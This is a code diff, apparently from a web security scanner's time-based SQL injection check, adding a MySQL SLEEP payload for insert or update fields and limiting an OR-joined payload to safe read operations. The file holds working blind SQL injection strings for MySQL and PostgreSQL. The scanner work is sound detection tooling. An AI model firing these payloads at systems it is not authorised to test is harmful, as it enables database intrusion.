@@ -2,6 +2,7 @@
 
 import { isSettled, settle } from '../found.ts'
 import { textValue } from '../probing.ts'
+import { mayNameAccounts } from '../resets.ts'
 import { waitsAsAsked } from '../timing.ts'
 import type { PointCheck } from '../types.ts'
 import { sqlInjection } from './sql-injection.ts'
@@ -15,6 +16,8 @@ const payloads: readonly (readonly [engine: string, of: (text: string, seconds: 
   ['MySQL', (text, s) => `${text} AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
   ['MySQL', (text, s) => `${text}" AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
   ['MySQL', joinedByOr],
+  // what is inserted, or set, is a sum: no row is told by it, since nothing counts as a half
+  ['MySQL', (_, s) => `'+(SELECT 0.5 FROM (SELECT SLEEP(${s}))x)+'`],
   ['PostgreSQL', (text, s) => `${text}'||(SELECT pg_sleep(${s}))||'`],
   ['PostgreSQL', (text, s) => `${text} AND (SELECT 1 FROM pg_sleep(${s}))=1`],
   ['PostgreSQL', (text, s) => `${text}' AND (SELECT 1 FROM pg_sleep(${s}))=1-- -`],
@@ -28,8 +31,9 @@ export const sqlTime: PointCheck = {
   ...sqlInjection,
   async probe(point, operation, context) {
     if (isSettled(89, operation, point, context)) return null
+    const mayWiden = operation.kind === 'read' && mayNameAccounts(operation, context)
     for (const [engine, of] of payloads) {
-      if (of === joinedByOr && operation.kind !== 'read') continue
+      if (of === joinedByOr && !mayWiden) continue
       const delayed = await waitsAsAsked((seconds) => of(textValue(point), seconds), point, operation, context)
       if (!delayed) continue
       settle(89, operation, point, context)
